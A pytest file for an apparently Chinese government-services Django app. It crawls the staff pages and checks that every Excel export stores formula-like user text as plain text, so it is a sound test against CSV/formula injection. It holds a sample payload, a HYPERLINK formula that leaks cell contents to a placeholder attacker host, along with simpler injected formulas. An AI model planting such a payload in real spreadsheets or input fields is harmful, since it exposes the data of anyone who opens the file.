"""Every Excel export keeps user text that looks like a formula as text.

The exports are not listed by hand: the test crawls the staff pages as a superuser, starting from every
route of the URLconf that takes no argument, follows every link (one visit per path and set of query
keys), and scans every spreadsheet it is handed. A new export linked from any page is checked without
anyone remembering to add it here; the known ones are a floor, so the crawl cannot quietly find nothing.
"""
from __future__ import annotations

import io
import re
from collections import deque
from datetime import date
from urllib.parse import parse_qsl, urljoin, urlsplit

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&F2,"点击查看")'
SKIP_PREFIXES = ("/admin/", "/api/", "/static/", "/logout/", "/portal/")
MAX_FETCHES = 600


def _routes(resolver: URLResolver, prefix: str = ""):
    for entry in resolver.url_patterns:
        route = prefix + str(entry.pattern)
        if isinstance(entry, URLResolver):
            yield from _routes(entry, route)
        elif isinstance(entry, URLPattern):
            yield route


def _seed_paths() -> list[str]:
    """Every route without a parameter, as a path."""
    return ["/" + route.lstrip("^").rstrip("$") for route in _routes(get_resolver()) if "<" not in route
            and "(?P" not in route and "\\" not in route]


@pytest.fixture
def hostile_data(county, personas):
    """User text that starts with '=' in every kind of record the exports write."""
    from tongban.catalog import services as catalog
    from tongban.catalog.choices import NegativeReason
    from tongban.org import services as org
    from tongban.rectification import services as rect

    office = personas.rectification_office
    unit = org.create_unit(code="evil", name=HOSTILE, kind=county.center.kind, parent=county.center)
    org.create_staff(staff_no="evil-1", name="=1+1", unit=unit, position=HOSTILE)
    item = catalog.create_item(name=HOSTILE, basic_code="=B1", implementation_code="EVIL-1", implementing_unit=unit,
                               promised_days=5, visits_on_site=1, steps=[{"name": HOSTILE}])
    catalog.create_negative_entry(unit=unit, item=item, reason=NegativeReason.values[0],
                                  rectify_deadline=date(2026, 12, 31), description=HOSTILE)
    inspection = rect.create_inspection(title="=SUM(1,1)巡察", body="县委", inspected_unit=county.center,
                                        feedback_date=date(2023, 6, 17), by=office)
    finding = rect.add_finding(inspection, description=HOSTILE, by=office)
    rect.create_measure(finding=finding, text=HOSTILE, lead_unit=unit, deadline=date(2023, 9, 30),
                        responsible_person_name="=A1", by=office)
    return inspection


def _crawl(client) -> dict[str, bytes]:
    """Visit the staff pages; return every spreadsheet handed out, by URL."""
    queue = deque(_seed_paths())
    seen: set[tuple[str, tuple[str, ...]]] = set()
    spreadsheets: dict[str, bytes] = {}
    fetches = 0
    while queue and fetches < MAX_FETCHES:
        url = queue.popleft()
        parts = urlsplit(url)
        key = (parts.path, tuple(sorted({k for k, _ in parse_qsl(parts.query, keep_blank_values=True)})))
        if key in seen or parts.path.startswith(SKIP_PREFIXES) or parts.netloc:
            continue
        seen.add(key)
        response = client.get(url)
        fetches += 1
        content_type = response.get("Content-Type", "")
        if response.status_code != 200:
            continue
        if content_type.startswith(XLSX):
            spreadsheets[url] = b"".join(response.streaming_content) if response.streaming else response.content
        elif content_type.startswith("text/html"):
            for href in re.findall(r'href="([^"#][^"]*)"', response.content.decode()):
                target = urljoin(url, href.replace("&amp;", "&"))
                if not target.startswith(("mailto:", "javascript:", "tel:")):
                    queue.append(target)
    assert fetches < MAX_FETCHES, "the crawl did not finish: raise MAX_FETCHES"
    return spreadsheets


def test_every_export_keeps_formula_like_text_as_text(hostile_data, personas, client_for):
    spreadsheets = _crawl(client_for(personas.admin))
    found = {urlsplit(url).path for url in spreadsheets}
    assert {"/org/export.xlsx", "/catalog/export.xlsx", "/catalog/negative-list/export.xlsx",
            f"/rectification/inspections/{hostile_data.pk}/ledger.xlsx"} <= found
    assert sum(1 for url in spreadsheets if "/rectification/lists/" in url) >= 4
    for url, content in spreadsheets.items():
        book = load_workbook(io.BytesIO(content))
        formulas = [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets
                    for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        assert not formulas, f"{url} writes formulas: {formulas[:5]}"
    negative = load_workbook(io.BytesIO(spreadsheets[next(u for u in spreadsheets if "negative-list" in u)]))
    texts = {cell.value for row in negative.active.iter_rows() for cell in row}
    assert HOSTILE in texts  # kept, as the text the user typed
